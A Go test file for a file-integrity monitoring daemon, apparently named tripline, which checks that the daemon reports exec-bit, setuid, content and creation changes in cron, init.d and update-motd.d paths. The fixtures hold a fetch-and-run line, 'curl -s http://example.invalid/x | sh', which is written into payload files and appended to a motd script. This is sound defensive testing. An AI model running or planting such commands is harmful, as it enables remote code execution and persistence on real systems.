package main

// Daemon tests: the real binary runs `watch` as a child process on a fixture root, real programs
// (chmod, install, cp, mv, tar, python3, sh, ln, touch, chown, rm) make the changes, and the
// tests read the ECS lines it writes and the database it leaves. Each test waits for what it
// expects with a deadline; nothing sleeps for a fixed time.
//
// Ordering is what makes the negative checks sound: one notification group has one queue, the
// daemon judges a batch in the order its paths first appear and writes each line before the
// next batch, so once the line about a later change (a "sync" file) is out, every change made
// before it has been judged and written, or will never be.

import (
	"archive/tar"
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	_ "github.com/mattn/go-sqlite3"
	"golang.org/x/sys/unix"

	"github.com/tripline/tripline/internal/testenv"
)

// watchChildEnv marks the re-executed test binary that runs a case inside its own mount
// namespace.
const watchChildEnv = "TRIPLINE_WATCH_CHILD"

// watchDeadline bounds every wait for the daemon: its ready line, an event, its exit. It catches
// a hang and measures nothing: at load 15 (other sessions building on 2 cores) a daemon's start
// took more than 10 s, and a passing run never waits for the bound.
const watchDeadline = 30 * time.Second

// logBuffer collects a child's output and wakes a waiter on every write.
type logBuffer struct {
	mu   sync.Mutex
	buf  bytes.Buffer
	wake chan struct{}
}

func newLogBuffer() *logBuffer { return &logBuffer{wake: make(chan struct{}, 1)} }

func (b *logBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	b.buf.Write(p)
	b.mu.Unlock()
	select {
	case b.wake <- struct{}{}:
	default:
	}
	return len(p), nil
}

func (b *logBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// from returns a copy of what was written from offset off on.
func (b *logBuffer) from(off int64) []byte {
	b.mu.Lock()
	defer b.mu.Unlock()
	return bytes.Clone(b.buf.Bytes()[off:])
}

// ecsEvent is the part of an ECS line these tests check.
type ecsEvent struct {
	Event struct {
		Kind   string `json:"kind"`
		Action string `json:"action"`
	} `json:"event"`
	Rule struct {
		ID string `json:"id"`
	} `json:"rule"`
	File struct {
		Path string `json:"path"`
		Mode string `json:"mode"`
		Type string `json:"type"`
	} `json:"file"`
	Process *struct {
		PID        int      `json:"pid"`
		Executable string   `json:"executable"`
		Args       []string `json:"args"`
		Parent     *struct {
			PID        int      `json:"pid"`
			Executable string   `json:"executable"`
			Args       []string `json:"args"`
		} `json:"parent"`
	} `json:"process"`
	Package *struct {
		Name    string `json:"name"`
		Version string `json:"version"`
		Type    string `json:"type"`
	} `json:"package"`
	Tripline struct {
		Source         string `json:"source"`
		Verdict        string `json:"verdict"`
		Why            string `json:"why"`
		Severity       string `json:"severity"`
		Attribution    string `json:"attribution"`
		AttributionWhy string `json:"attribution_why"`
		History        struct {
			ID   int64  `json:"id"`
			Hash string `json:"hash"`
		} `json:"history"`
		Previous *struct {
			Mode     string `json:"mode"`
			Approved *bool  `json:"approved"`
		} `json:"previous"`
	} `json:"tripline"`
}

func (e ecsEvent) pid() int {
	if e.Process == nil {
		return 0
	}
	return e.Process.PID
}

func (e ecsEvent) previousMode() string {
	if e.Tripline.Previous == nil {
		return ""
	}
	return e.Tripline.Previous.Mode
}

func (e ecsEvent) String() string {
	return fmt.Sprintf("{%s %s kind=%s mode=%s prev=%s type=%s pid=%d source=%s attribution=%s severity=%s}",
		e.File.Path, e.Rule.ID, e.Event.Kind, e.File.Mode, e.previousMode(), e.File.Type, e.pid(),
		e.Tripline.Source, e.Tripline.Attribution, e.Tripline.Severity)
}

// parseECS parses the complete lines of data (a trailing partial line is left alone) and returns
// the events and the number of bytes consumed. Every line must be one JSON object.
func parseECS(t *testing.T, data []byte) ([]ecsEvent, int) {
	t.Helper()
	end := bytes.LastIndexByte(data, '\n') + 1
	var out []ecsEvent
	for _, line := range bytes.Split(data[:end], []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var e ecsEvent
		if err := json.Unmarshal(line, &e); err != nil {
			t.Fatalf("not an ECS JSON line: %v\n%s", err, line)
		}
		out = append(out, e)
	}
	return out, end
}

// readECS returns the events in an output file; none when it does not exist. Every complete line
// must parse (a last line still being written is left out).
func readECS(t *testing.T, name string) []ecsEvent {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	evs, _ := parseECS(t, data)
	return evs
}

func eventsFor(evs []ecsEvent, logical string) []ecsEvent {
	var out []ecsEvent
	for _, e := range evs {
		if e.File.Path == logical {
			out = append(out, e)
		}
	}
	return out
}

// daemon is a running `tripline watch --format ecs`.
type daemon struct {
	fx     *fixture
	cmd    *exec.Cmd
	output string // the --output file; "" for stdout
	stdout *logBuffer
	stderr *logBuffer
	done   chan struct{} // closed when the process has exited
	err    error         // from Wait, once done is closed

	off   int64      // how much of the output has been parsed into seen
	seen  []ecsEvent // every line read so far
	syncs int
}

// watchEnv is the environment without tripline's own variables, so the flags alone decide.
func watchEnv() []string {
	var env []string
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "TRIPLINE_") && !strings.HasPrefix(kv, "NOTIFY_SOCKET=") {
			env = append(env, kv)
		}
	}
	return env
}

// startWatch starts the daemon on fx writing ECS to output ("" for stdout), waits for its ready
// line and makes sure it is killed when the test ends.
func startWatch(t *testing.T, fx *fixture, output string, args ...string) *daemon {
	t.Helper()
	return startWatchWith(t, fx, output, nil, args...)
}

// startWatchWith is startWatch with the binary run by a wrapper that execs it (the pid stays the
// daemon's).
func startWatchWith(t *testing.T, fx *fixture, output string, wrapper []string, args ...string) *daemon {
	t.Helper()
	d := launchWatch(t, fx, output, wrapper, args...)
	d.waitLog(t, "msg=ready")
	return d
}

// launchWatch starts the daemon and returns at once, before it is ready; it is killed at the
// test's end if still running.
func launchWatch(t *testing.T, fx *fixture, output string, wrapper []string, args ...string) *daemon {
	t.Helper()
	d := &daemon{fx: fx, output: output, stdout: newLogBuffer(), stderr: newLogBuffer(), done: make(chan struct{})}
	o := output
	if o == "" {
		o = "-"
	}
	full := append([]string{binary, "--db", fx.db, "--root", fx.root, "watch", "--format", "ecs", "--output", o}, args...)
	full = append(wrapper[:len(wrapper):len(wrapper)], full...)
	d.cmd = exec.Command(full[0], full[1:]...)
	d.cmd.Env = watchEnv()
	d.cmd.Stdout, d.cmd.Stderr = d.stdout, d.stderr
	if err := d.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		d.err = d.cmd.Wait()
		close(d.done)
	}()
	t.Cleanup(func() {
		select {
		case <-d.done:
		default:
			d.cmd.Process.Kill()
			<-d.done
		}
	})
	return d
}

// lineWith returns the first line of s containing sub.
func lineWith(s, sub string) (string, bool) {
	for _, line := range strings.Split(s, "\n") {
		if strings.Contains(line, sub) {
			return line, true
		}
	}
	return "", false
}

// waitLog waits for a line containing sub on the daemon's stderr and returns it.
func (d *daemon) waitLog(t *testing.T, sub string) string {
	t.Helper()
	return d.waitLogWithin(t, sub, watchDeadline)
}

// drainDeadline bounds a wait that comes after a queue of tens of thousands of events: the
// daemon reaches the overflow only after handling what the queue held, and how long that takes
// depends on the machine and what else runs on it. It bounds a hang, it measures nothing.
const drainDeadline = 2 * time.Minute

// waitLogWithin is waitLog with its own bound.
func (d *daemon) waitLogWithin(t *testing.T, sub string, bound time.Duration) string {
	t.Helper()
	deadline := time.NewTimer(bound)
	defer deadline.Stop()
	for {
		if line, ok := lineWith(d.stderr.String(), sub); ok {
			return line
		}
		select {
		case <-d.stderr.wake:
		case <-d.done:
			if line, ok := lineWith(d.stderr.String(), sub); ok {
				return line
			}
			t.Fatalf("tripline watch exited (%v) before logging %q\nstderr:\n%s", d.err, sub, d.stderr)
		case <-deadline.C:
			t.Fatalf("tripline watch did not log %q within %v\nstderr:\n%s", sub, bound, d.stderr)
		}
	}
}

// poll reads the output written since the last poll and returns every event so far.
func (d *daemon) poll(t *testing.T) []ecsEvent {
	t.Helper()
	var data []byte
	if d.output == "" {
		data = d.stdout.from(d.off)
	} else {
		f, err := os.Open(d.output)
		if os.IsNotExist(err) {
			return d.seen
		}
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if _, err := f.Seek(d.off, io.SeekStart); err != nil {
			t.Fatal(err)
		}
		if data, err = io.ReadAll(f); err != nil {
			t.Fatal(err)
		}
	}
	evs, n := parseECS(t, data)
	d.seen = append(d.seen, evs...)
	d.off += int64(n)
	return d.seen
}

// within polls cond until it holds, failing the test after watchDeadline or when the daemon
// exits first.
func (d *daemon) within(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.NewTimer(watchDeadline)
	defer deadline.Stop()
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	for {
		if cond() {
			return
		}
		select {
		case <-tick.C:
		case <-d.done:
			if cond() {
				return
			}
			t.Fatalf("tripline watch exited (%v) before %s\nstderr:\n%s", d.err, what, d.stderr)
		case <-deadline.C:
			t.Fatalf("no %s within %v\nevents: %v\nstderr:\n%s", what, watchDeadline, d.seen, d.stderr)
		}
	}
}

// waitEvent waits for an event about logical that match accepts.
func (d *daemon) waitEvent(t *testing.T, logical string, match func(ecsEvent) bool) ecsEvent {
	t.Helper()
	var got ecsEvent
	d.within(t, "event for "+logical, func() bool {
		for _, e := range eventsFor(d.poll(t), logical) {
			if match == nil || match(e) {
				got = e
				return true
			}
		}
		return false
	})
	return got
}

// sync creates an executable file in /etc/cron.weekly and waits for its line: every change made
// before has then been reported (see the file comment). mknod makes one event only, so the
// daemon has nothing left to do about the sync file either.
func (d *daemon) sync(t *testing.T) {
	t.Helper()
	d.syncs++
	rel := fmt.Sprintf("etc/cron.weekly/zz-sync-%d", d.syncs)
	if err := unix.Mknod(d.fx.path(rel), unix.S_IFREG|0o755, 0); err != nil {
		t.Fatal(err)
	}
	d.waitEvent(t, "/"+rel, nil)
}

// stop sends SIGTERM and checks that the daemon exits 0 in time.
func (d *daemon) stop(t *testing.T) {
	t.Helper()
	if err := d.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case <-d.done:
	case <-time.After(watchDeadline):
		t.Fatalf("tripline watch still running %v after SIGTERM\nstderr:\n%s", watchDeadline, d.stderr)
	}
	if d.err != nil {
		t.Fatalf("tripline watch after SIGTERM: %v, want exit 0\nstderr:\n%s", d.err, d.stderr)
	}
	if !strings.Contains(d.stderr.String(), "msg=stopped") {
		t.Errorf("no stopped line after SIGTERM:\n%s", d.stderr)
	}
	d.poll(t)
}

// act runs a command that makes a change and returns its pid.
func act(t *testing.T, argv ...string) int {
	t.Helper()
	cmd := exec.Command(argv[0], argv[1:]...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatalf("%v: %v", argv, err)
	}
	pid := cmd.Process.Pid
	if err := cmd.Wait(); err != nil {
		t.Fatalf("%v: %v\n%s", argv, err, out.String())
	}
	return pid
}

var pythonPath = sync.OnceValues(func() (string, error) {
	// The real interpreter, not a wrapper (pyenv's shim is a bash script), so the pid the
	// test notes is the pid that makes the change.
	out, err := exec.Command("python3", "-c", "import os, sys; print(os.path.realpath(sys.executable))").Output()
	return strings.TrimSpace(string(out)), err
})

func python(t *testing.T) string {
	t.Helper()
	p, err := pythonPath()
	if err != nil {
		t.Fatalf("python3: %v", err)
	}
	return p
}

// newWatchFixture is newFixture plus what the daemon tests need before the daemon starts: the
// sync directory, more files to change, and payloads outside the root (src, on the same
// filesystem so mv renames).
func newWatchFixture(t *testing.T) (*fixture, string) {
	t.Helper()
	fx := newFixture(t)
	fx.write(t, "etc/cron.weekly/0anacron", "#!/bin/sh\n", 0o755)
	fx.write(t, "etc/cron.hourly/0anacron", "#!/bin/sh\n", 0o755)
	fx.write(t, "etc/cron.daily/ux", "#!/bin/sh\nid\n", 0o644)
	fx.write(t, "etc/cron.daily/py", "#!/bin/sh\nid\n", 0o644)
	fx.write(t, "etc/init.d/gamma", "#!/bin/sh\necho gamma\n", 0o755)
	if err := os.Symlink("/etc/init.d/beta", fx.path("etc/init.d/old-link")); err != nil {
		t.Fatal(err)
	}
	src := filepath.Join(filepath.Dir(fx.root), "src")
	if err := os.MkdirAll(src, 0o755); err != nil {
		t.Fatal(err)
	}
	payload := []byte("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n")
	for name, mode := range map[string]os.FileMode{"evil": 0o600, "exe": 0o755, "mv-payload": 0o700} {
		p := filepath.Join(src, name)
		if err := os.WriteFile(p, payload, mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
	}
	writeTar(t, filepath.Join(src, "payload.tar"), "tar-payload", payload, 0o755)
	if settleFixture != nil {
		settleFixture(t)
	}
	return fx, src
}

// writeTar writes an archive holding one regular file owned by the current user.
func writeTar(t *testing.T, archive, name string, content []byte, mode int64) {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	hdr := &tar.Header{Name: name, Mode: mode, Size: int64(len(content)), Typeflag: tar.TypeReg,
		Uid: os.Getuid(), Gid: os.Getgid(), ModTime: time.Now().Add(-time.Hour)}
	if err := tw.WriteHeader(hdr); err != nil {
		t.Fatal(err)
	}
	tw.Write(content)
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(archive, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// How a change must be reported.
type expect int

const (
	// exactly one line: rule, file.mode, tripline.previous.mode ("" for none)
	expectOne expect = iota
	// a new file that arrives in steps (create, write, set times, chmod): the first of its
	// lines with an exec bit arms it (executable-created, or exec-bit-set from a mode without
	// exec bits), and the last line shows the final mode
	expectArmed
	// no line but the rules in allow
	expectQuiet
)

type watchCase struct {
	name   string
	path   string // the logical path changed
	argv   func(fx *fixture, src string) []string
	expect expect
	rule   string   // expectOne
	mode   string   // expectOne, expectArmed: the final mode
	prev   string   // expectOne
	ftype  string   // expectOne: file.type when not "file"
	allow  []string // expectQuiet
}

// watchCases are the changes, each by a real process.
func watchCases() []watchCase {
	return []watchCase{
		{name: "chmod +x", path: "/etc/cron.daily/backup",
			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "+x", fx.path("etc/cron.daily/backup")} },
			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0755"},
		{name: "chmod 0755", path: "/etc/init.d/alpha",
			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "0755", fx.path("etc/init.d/alpha")} },
			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0755"},
		{name: "chmod u+x", path: "/etc/cron.daily/ux",
			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "u+x", fx.path("etc/cron.daily/ux")} },
			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0744"},
		{name: "python os.chmod", path: "/etc/cron.daily/py",
			argv: func(fx *fixture, _ string) []string {
				return []string{pythonPathOrEmpty(), "-c", "import os, sys; os.chmod(sys.argv[1], 0o750)", fx.path("etc/cron.daily/py")}
			},
			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0750"},
		{name: "chmod u+s", path: "/etc/init.d/beta",
			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "u+s", fx.path("etc/init.d/beta")} },
			expect: expectOne, rule: "setuid-set", prev: "0755", mode: "4755"},
		{name: "append to a script", path: "/etc/update-motd.d/10-help-text",
			argv: func(fx *fixture, _ string) []string {
				return []string{"sh", "-c", `printf 'curl -s http://example.invalid | sh\n' >>"$1"`, "sh", fx.path("etc/update-motd.d/10-help-text")}
			},
			expect: expectOne, rule: "content-changed", prev: "0755", mode: "0755"},
		{name: "rm", path: "/etc/cron.d/old-job",
			argv:   func(fx *fixture, _ string) []string { return []string{"rm", fx.path("etc/cron.d/old-job")} },
			expect: expectOne, rule: "file-deleted", mode: "0644"},
		{name: "mv an executable in", path: "/etc/cron.daily/zz-update",
			argv: func(fx *fixture, src string) []string {
				return []string{"mv", filepath.Join(src, "mv-payload"), fx.path("etc/cron.daily/zz-update")}
			},
			expect: expectOne, rule: "executable-created", mode: "0700"},
		{name: "ln -s", path: "/etc/cron.daily/link",
			argv: func(fx *fixture, _ string) []string {
				return []string{"ln", "-s", "/usr/bin/true", fx.path("etc/cron.daily/link")}
			},
			// A new symlink is a new entry (file-created, low): never an armed executable.
			expect: expectOne, rule: "file-created", mode: "0777", ftype: "symlink"},
		{name: "install", path: "/etc/update-motd.d/99-evil",
			argv: func(fx *fixture, src string) []string {
				return []string{"install", filepath.Join(src, "evil"), fx.path("etc/update-motd.d/99-evil")}
			},
			expect: expectArmed, mode: "0755"},
		{name: "install -m0755", path: "/etc/init.d/installed",
			argv: func(fx *fixture, src string) []string {
				return []string{"install", "-m0755", filepath.Join(src, "evil"), fx.path("etc/init.d/installed")}
			},
			expect: expectArmed, mode: "0755"},
		{name: "cp -p", path: "/etc/cron.daily/cp-payload",
			argv: func(fx *fixture, src string) []string {
				return []string{"cp", "-p", filepath.Join(src, "exe"), fx.path("etc/cron.daily/cp-payload")}
			},
			expect: expectArmed, mode: "0755"},
		{name: "tar -xpf", path: "/etc/cron.hourly/tar-payload",
			argv: func(fx *fixture, src string) []string {
				return []string{"tar", "-xpf", filepath.Join(src, "payload.tar"), "-C", fx.path("etc/cron.hourly")}
			},
			expect: expectArmed, mode: "0755"},
		{name: "created 0755", path: "/etc/init.d/py-created",
			argv: func(fx *fixture, _ string) []string {
				return []string{pythonPathOrEmpty(), "-c", "import os, sys; os.umask(0o022); " +
					"fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755); " +
					"os.write(fd, b'#!/bin/sh\\nid\\n'); os.close(fd)", fx.path("etc/init.d/py-created")}
			},
			expect: expectArmed, mode: "0755"},
		// Taking the exec bit away is recorded (mode-changed, severity info), never as arming.
		{name: "chmod -x", path: "/etc/cron.daily/logrotate",
			argv: func(fx *fixture, _ string) []string {
				return []string{"chmod", "-x", fx.path("etc/cron.daily/logrotate")}
			},
			expect: expectQuiet, allow: []string{"mode-changed"}},
		{name: "touch", path: "/etc/profile.d/locale.sh",
			argv:   func(fx *fixture, _ string) []string { return []string{"touch", fx.path("etc/profile.d/locale.sh")} },
			expect: expectQuiet},
		{name: "chown to the same owner", path: "/etc/init.d/gamma",
			argv: func(fx *fixture, _ string) []string {
				return []string{"chown", fmt.Sprintf("%d:%d", os.Getuid(), os.Getgid()), fx.path("etc/init.d/gamma")}
			},
			expect: expectQuiet},
		{name: "touch -h a symlink", path: "/etc/init.d/old-link",
			argv:   func(fx *fixture, _ string) []string { return []string{"touch", "-h", fx.path("etc/init.d/old-link")} },
			expect: expectQuiet},
	}
}

func pythonPathOrEmpty() string {
	p, _ := pythonPath()
	return p
}

// allowedArming are the rules a new file arriving in steps may be reported with.
var allowedArming = map[string]bool{"file-created": true, "executable-created": true, "exec-bit-set": true,
	"content-changed": true, "timestomp": true, "mode-changed": true}

func hasExec(mode string) bool {
	m, err := strconv.ParseUint(mode, 8, 32)
	return err == nil && m&0o111 != 0
}

// runWatchCases starts the daemon on a new fixture, makes every change of watchCases with its
// own process, and checks what the daemon reported about each.
func runWatchCases(t *testing.T) {
	python(t) // fail early, and with a reason, without python3
	fx, src := newWatchFixture(t)
	out := filepath.Join(t.TempDir(), "events.ecs")
	d := startWatch(t, fx, out)
	if ready := d.waitLog(t, "msg=ready"); !strings.Contains(ready, "backend=fanotify pids=true") {
		t.Errorf("ready line: %s, want fanotify with pids", ready)
	}
	cases := watchCases()
	pids := map[string]int{}
	for _, c := range cases {
		pids[c.path] = act(t, c.argv(fx, src)...)
	}
	d.sync(t)
	evs := d.poll(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := eventsFor(evs, c.path)
			pid := pids[c.path]
			checkEvent := func(e ecsEvent) {
				t.Helper()
				if e.pid() != pid || e.Tripline.Source != "event" {
					t.Errorf("%v: want process.pid %d (the %s), source event", e, pid, c.argv(fx, src)[0])
				}
				// As root the exec cache's kernel feed runs: the command is named exactly as it
				// was executed, with this test as its parent, however briefly it lived.
				argv := c.argv(fx, src)
				if !kernelNamed(e.Tripline.Attribution) || e.Process == nil {
					t.Errorf("%v: attribution %q, want kernel or syscall", e, e.Tripline.Attribution)
					return
				}
				exe, _ := exec.LookPath(argv[0])
				if e.Process.Executable != exe {
					t.Errorf("%v: process.executable %q, want %q", e, e.Process.Executable, exe)
				}
				if !slices.Equal(e.Process.Args, argv) {
					t.Errorf("%v: process.args %q, want %q", e, e.Process.Args, argv)
				}
				if e.Process.Parent == nil || e.Process.Parent.PID != os.Getpid() {
					t.Errorf("%v: process.parent %+v, want this test (pid %d)", e, e.Process.Parent, os.Getpid())
				}
				if e.Event.Kind != "alert" {
					t.Errorf("%v: event.kind %q, want alert", e, e.Event.Kind)
				}
			}
			switch c.expect {
			case expectOne:
				if len(got) != 1 {
					t.Fatalf("got %d lines, want one %s: %v", len(got), c.rule, got)
				}
				e := got[0]
				checkEvent(e)
				ftype := c.ftype
				if ftype == "" {
					ftype = "file"
				}
				if e.Rule.ID != c.rule || e.File.Mode != c.mode || e.previousMode() != c.prev || e.File.Type != ftype {
					t.Errorf("%v: want rule %s, mode %s, previous mode %q, type %s", e, c.rule, c.mode, c.prev, ftype)
				}
			case expectArmed:
				if len(got) == 0 {
					t.Fatalf("no line")
				}
				t.Logf("lines: %v", got)
				// The first line with an exec bit is the one that arms the file. Later lines may add more exec bits (cp -p and tar create 0700, then
				// chmod 0755: exec-bit-set again), report the content written after an empty
				// create, or the archived mtime set before the final chmod (timestomp).
				armed := -1
				for i, e := range got {
					checkEvent(e)
					if !allowedArming[e.Rule.ID] {
						t.Errorf("unexpected line %v", e)
					}
					if armed < 0 && hasExec(e.File.Mode) {
						armed = i
					}
				}
				if armed < 0 {
					t.Fatalf("no line shows an exec bit: %v", got)
				}
				switch a := got[armed]; {
				case a.Rule.ID == "executable-created" && a.previousMode() == "":
				case a.Rule.ID == "exec-bit-set" && !hasExec(a.previousMode()):
				default:
					t.Errorf("the first line with an exec bit, %v, should be executable-created, or exec-bit-set from a mode without exec bits", a)
				}
				if last := got[len(got)-1]; last.File.Mode != c.mode {
					t.Errorf("last line %v: mode %s, want %s (the final mode)", last, last.File.Mode, c.mode)
				}
			case expectQuiet:
				for _, e := range got {
					ok := false
					for _, r := range c.allow {
						ok = ok || e.Rule.ID == r
					}
					if !ok {
						t.Errorf("unexpected line %v (allowed: %v)", e, c.allow)
					}
				}
				if len(got) > 0 {
					t.Logf("reported, as allowed: %v", got)
				}
			}
		})
	}
	d.stop(t)
	// Nothing was reported about paths no case touched but the syncs.
	touched := map[string]bool{}
	for _, c := range cases {
		touched[c.path] = true
	}
	for _, e := range d.seen {
		if !touched[e.File.Path] && !strings.HasPrefix(e.File.Path, "/etc/cron.weekly/zz-sync-") {
			t.Errorf("line about an untouched path: %v", e)
		}
	}
}

// fsName names the filesystem dir is on, for the log.
func fsName(t *testing.T, dir string) string {
	var st unix.Statfs_t
	if err := unix.Statfs(dir, &st); err != nil {
		t.Fatal(err)
	}
	switch st.Type {
	case unix.TMPFS_MAGIC:
		return "tmpfs"
	case unix.EXT4_SUPER_MAGIC:
		return "ext4"
	case unix.XFS_SUPER_MAGIC:
		return "xfs"
	case unix.BTRFS_SUPER_MAGIC:
		return "btrfs"
	case unix.OVERLAYFS_SUPER_MAGIC:
		return "overlayfs"
	}
	return fmt.Sprintf("%#x", st.Type)
}

// TestWatchChanges makes each of the changes with a real process while the daemon runs
// and checks the rule, path, previous and new mode and acting pid of what it reported; chmod -x,
// touch, chown to the same owner and touch -h of a symlink arm nothing. It runs on the
// filesystem of $TMPDIR, and on a fresh tmpfs, ext4 (a loop-mounted image) and overlayfs (the
// fixture in the lower layer, so every change copies up), each in a private mount namespace.
func TestWatchChanges(t *testing.T) {
	testenv.RequireRoot(t) // fanotify
	t.Run("tmpdir", func(t *testing.T) {
		t.Logf("on %s", fsName(t, os.TempDir()))
		runWatchCases(t)
	})
	for _, fs := range []string{"tmpfs", "ext4", "overlayfs"} {
		t.Run(fs, func(t *testing.T) { inPrivateFS(t, fs, runWatchCases) })
	}
}

// runPattern is a -test.run pattern that selects exactly the test (or subtest) named name.
func runPattern(name string) string {
	parts := strings.Split(name, "/")
	for i, p := range parts {
		parts[i] = "^" + regexp.QuoteMeta(p) + "$"
	}
	return strings.Join(parts, "/")
}

// inPrivateTmpfs runs fn in a re-executed test binary that has its own mount namespace, with
// $TMPDIR on a fresh tmpfs, so every t.TempDir of fn (the fixture, the database, the output)
// and the daemon's self-check directory live there and vanish with the namespace.
func inPrivateTmpfs(t *testing.T, fn func(*testing.T)) {
	t.Helper()
	inPrivateFS(t, "tmpfs", fn)
}

// settleFixture, set by inPrivateFS for overlayfs, is called by newWatchFixture once the
// fixture is written: it moves what was written into the overlay's lower layer.
var settleFixture func(t *testing.T)

// inPrivateFS is inPrivateTmpfs with $TMPDIR on a filesystem of the kind fs: tmpfs; ext4, on
// an image made by the test (truncate, mkfs.ext4, mount -o loop) in that tmpfs; or overlayfs,
// with its layers in that tmpfs and the fixture moved into the lower layer before the daemon
// starts (so the daemon sees files of the lower layer, and every change copies one up).
func inPrivateFS(t *testing.T, fs string, fn func(*testing.T)) {
	t.Helper()
	if os.Getenv(watchChildEnv) == "1" {
		if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
			t.Fatalf("make mounts private: %v", err)
		}
		dir, err := os.MkdirTemp("", "tripline-tmpfs-")
		if err != nil {
			t.Fatal(err)
		}
		if err := unix.Mount("tripline-test", dir, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV, "mode=0755,size=512m"); err != nil {
			os.Remove(dir)
			t.Fatalf("mount tmpfs on %s: %v", dir, err)
		}
		t.Cleanup(func() {
			if err := unix.Unmount(dir, unix.MNT_DETACH); err != nil {
				t.Errorf("unmount %s: %v", dir, err)
			}
			os.Remove(dir)
		})
		tmp := dir
		switch fs {
		case "tmpfs":
		case "ext4":
			tmp = mountExt4(t, dir)
		case "overlayfs":
			tmp = mountOverlay(t, dir)
		default:
			t.Fatalf("no filesystem %q", fs)
		}
		want := map[string]string{"tmpfs": "tmpfs", "ext4": "ext4", "overlayfs": "overlayfs"}[fs]
		if name := fsName(t, tmp); name != want {
			t.Fatalf("%s is on %s after mounting %s", tmp, name, want)
		}
		t.Logf("on %s at %s", fs, tmp)
		t.Setenv("TMPDIR", tmp)
		fn(t)
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), 150*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], "-test.run="+runPattern(t.Name()), "-test.v", "-test.count=1")
	cmd.Env = append(os.Environ(), watchChildEnv+"=1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("the namespace child failed: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), "--- PASS: "+t.Name()+" ") {
		t.Fatalf("the namespace child did not run %s:\n%s", t.Name(), out)
	}
	if testing.Verbose() {
		t.Logf("namespace child:\n%s", out)
	}
}

// mountExt4 makes a 128 MiB ext4 image in dir, loop-mounts it and returns the mount point. The
// cleanup unmounts it, which frees the loop device (mount -o loop sets autoclear).
func mountExt4(t *testing.T, dir string) string {
	t.Helper()
	for _, tool := range []string{"mkfs.ext4", "mount", "umount"} {
		if _, err := exec.LookPath(tool); err != nil {
			testenv.SkipOrFail(t, tool+" is not installed (e2fsprogs, util-linux)")
		}
	}
	img, mnt := filepath.Join(dir, "ext4.img"), filepath.Join(dir, "ext4")
	if err := os.Mkdir(mnt, 0o755); err != nil {
		t.Fatal(err)
	}
	sh(t, "truncate", "-s", "128M", img)
	sh(t, "mkfs.ext4", "-q", "-F", img)
	sh(t, "mount", "-o", "loop", img, mnt)
	t.Cleanup(func() {
		if out, err := exec.Command("umount", mnt).CombinedOutput(); err != nil {
			t.Errorf("umount %s: %v\n%s", mnt, err, out)
		}
	})
	return mnt
}

// mountOverlay mounts an overlay with its layers in dir and returns the merged directory. It
// sets settleFixture to move the fixture into the lower layer.
func mountOverlay(t *testing.T, dir string) string {
	t.Helper()
	lower, upper, work, merged := filepath.Join(dir, "lower"), filepath.Join(dir, "upper"), filepath.Join(dir, "work"), filepath.Join(dir, "merged")
	for _, d := range []string{lower, upper, work, merged} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	opts := "lowerdir=" + lower + ",upperdir=" + upper + ",workdir=" + work
	mount := func() {
		if err := unix.Mount("tripline-overlay", merged, "overlay", 0, opts); err != nil {
			testenv.SkipOrFail(t, "mount overlay: "+err.Error())
		}
	}
	mount()
	mounted := true
	t.Cleanup(func() {
		settleFixture = nil
		if mounted {
			if err := unix.Unmount(merged, unix.MNT_DETACH); err != nil {
				t.Errorf("unmount %s: %v", merged, err)
			}
		}
	})
	settleFixture = func(t *testing.T) {
		settleFixture = nil
		if err := unix.Unmount(merged, 0); err != nil {
			t.Fatalf("unmount %s to move the fixture down: %v", merged, err)
		}
		mounted = false
		ents, err := os.ReadDir(upper)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range ents {
			if err := os.Rename(filepath.Join(upper, e.Name()), filepath.Join(lower, e.Name())); err != nil {
				t.Fatal(err)
			}
		}
		mount()
		mounted = true
	}
	return merged
}

// TestWatchRestart stops the daemon, changes files, starts it again: every change is reported
// by the start-up reconcile, without a pid, and the daemon-start gaps are closed.
func TestWatchRestart(t *testing.T) {
	testenv.RequireRoot(t)
	fx, src := newWatchFixture(t)
	out := filepath.Join(t.TempDir(), "events.ecs")
	d := startWatch(t, fx, out)
